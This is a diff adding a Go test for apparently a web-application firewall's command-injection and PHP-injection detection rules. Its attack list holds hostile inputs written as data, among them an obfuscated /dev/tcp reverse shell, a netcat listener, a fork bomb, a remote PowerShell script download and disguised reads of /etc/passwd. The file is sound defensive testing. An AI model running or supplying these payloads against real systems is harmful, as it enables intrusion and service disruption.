@@ -1,0 +1,76 @@
+package inspect_test
+
+import (
+	"testing"
+
+	"github.com/rampartsec/rampart/internal/inspect"
+)
+
+// TestShellAndPHPRules: each new command and PHP injection rule flags the
+// shapes it is for, with its own rule id and attack type, at level 2, and
+// lets the text those shapes resemble through.
+func TestShellAndPHPRules(t *testing.T) {
+	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 2, CheckAllHeaders: true})
+	attacks := []struct{ rule, attack, value string }{
+		{"120010", inspect.AttackCmdi, "x;perf --version"},
+		{"120010", inspect.AttackCmdi, ";flock -u / whoami"},
+		{"120010", inspect.AttackCmdi, "cd /;cd etc;fold passwd"},
+		{"120010", inspect.AttackCmdi, "time sh -c whoami"},
+		{"120010", inspect.AttackCmdi, "ti''me curl coreruleset.org"},
+		{"120010", inspect.AttackCmdi, ";gcc10.1<<<void main(){}"},
+		{"120010", inspect.AttackCmdi, "cu$@rl google.com"},
+		{"120010", inspect.AttackCmdi, `""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""`},
+		{"120010", inspect.AttackCmdi, "pi``ng 127.0.0.1"},
+		{"120010", inspect.AttackCmdi, "www.google.com;c$!at+/et$!c/pas$!swd"},
+		{"120010", inspect.AttackCmdi, "Invoke-WebRequest http://example.com/path/file.ps1"},
+		{"120010", inspect.AttackCmdi, "image.jpg&bcdboot/r file.txt"},
+		{"120010", inspect.AttackCmdi, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"},
+		{"120010", inspect.AttackCmdi, "bin/visudo"},
+		{"120011", inspect.AttackCmdi, `IF "%~1" == "%~2" (EXIT /B 0) ELSE (EXIT /B 1)`},
+		{"120011", inspect.AttackCmdi, "if /i a==b foo"},
+		{"120011", inspect.AttackCmdi, "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 ..."},
+		{"120012", inspect.AttackCmdi, "{l,-lh}s"},
+		{"120012", inspect.AttackCmdi, "c{a,oun}t"},
+		{"120012", inspect.AttackCmdi, "~-1"},
+		{"120013", inspect.AttackCmdi, "\r\nMAIL FROM:<a@b.com>"},
+		{"120013", inspect.AttackCmdi, "\r\na001 STATUS INBOX (MESSAGES)"},
+		{"120013", inspect.AttackCmdi, "\r\nAPOP corerulest 7d0a3bd8e5b2abcfb3e256633c23b891"},
+		{"120014", inspect.AttackCmdi, "1;.sh whoami"},
+		{"120014", inspect.AttackCmdi, ";\n.databases"},
+		{"120015", inspect.AttackCmdi, `$SHELL -c "echo hi"`},
+		{"120015", inspect.AttackCmdi, "$[2+2]"},
+		{"120015", inspect.AttackCmdi, "a=nc&&$a -nlvp 555"},
+		{"120015", inspect.AttackCmdi, "f(){ f & f; };f"},
+		{"130022", inspect.AttackVuln, "exec #comment\r\n (blah)"},
+		{"130022", inspect.AttackVuln, "I don't like gzuncompress/*comment*/()"},
+		{"130022", inspect.AttackVuln, "ZlIb_DeCoDe=(bla)"},
+		{"130022", inspect.AttackVuln, "get_defined_vars()[0]"},
+		{"130022", inspect.AttackVuln, "system(whoami)"},
+		{"130023", inspect.AttackVuln, "opcache.jit_max_polymorphic_calls=50"},
+		{"130023", inspect.AttackVuln, "allow_url_include = 1"},
+		{"130024", inspect.AttackVuln, "${'ff'}"},
+		{"130024", inspect.AttackVuln, "$ {$a}"},
+		{"130025", inspect.AttackVuln, "$_aB_4c[5]['d'] /*lol*/ (17)"},
+		{"130025", inspect.AttackVuln, "$foo->$funcname()"},
+		{"130026", inspect.AttackVuln, `"\x73y\x73tem"(ls);`},
+		{"130026", inspect.AttackVuln, "('system')('whoami')"},
+	}
+	for _, a := range attacks {
+		v := in.Inspect(param(a.value))
+		if !v.Detected() || v.RuleID != a.rule || v.Attack != a.attack {
+			t.Errorf("%q: rule %s %s, want rule %s %s", a.value, v.RuleID, v.Attack, a.rule, a.attack)
+		}
+	}
+	for _, text := range []string{
+		"Hex & Base64 converter", "time cat videos", "python 3.12 release notes", "Tom & Jerry; top 10 episodes",
+		"Cut orange quarters into crosswise slices about 1/8-inch thick.", "date 2024-01-01", "photo.jpg; 2 files",
+		"if (a == b) { return; }", "{first: 1, last: 2}", "a{1,3}", "~", "Shopping\r\nlist of things",
+		"The solar system (which has 8 planets)", "file(s) attached", "file(2).jpg", "Trim (optional)",
+		"price=12", "engine=v8 turbo", "${price}", "$5 (five dollars)", "see notes (above).",
+		"data:image/png;base64,iVBORw0KGgo=", "sleep; eat; repeat", "R&D; ls. staff", "System (optional)", "memory_limit=unknown value",
+	} {
+		if v := in.Inspect(param(text)); v.Detected() {
+			t.Errorf("text %q flagged: rule %s %q", text, v.RuleID, v.Excerpt)
+		}
+	}
+}
